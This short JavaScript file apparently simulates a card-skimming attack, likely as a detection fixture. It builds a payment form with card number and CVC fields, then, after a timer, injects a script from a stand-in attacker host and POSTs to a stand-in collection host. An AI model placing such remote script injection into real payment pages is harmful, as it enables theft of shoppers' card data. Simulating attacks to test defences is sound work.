// Builds the card form at run time, then a "compromised dependency"
// injects a skimmer from another host after a timer.
document.addEventListener('DOMContentLoaded', function () {
  var f = document.createElement('form');
  f.action = '/pay';
  f.method = 'post';
  f.innerHTML = '<input name="cc-number" autocomplete="cc-number"><input name="cvc">';
  document.getElementById('app').appendChild(f);
});
setTimeout(function () {
  var s = document.createElement('script');
  s.src = 'https://skimmer.attacker.example/x.js';
  document.head.appendChild(s);
  fetch('https://collect.attacker.example/c', {method: 'POST', body: 'x'}).catch(function () {});
}, 100);
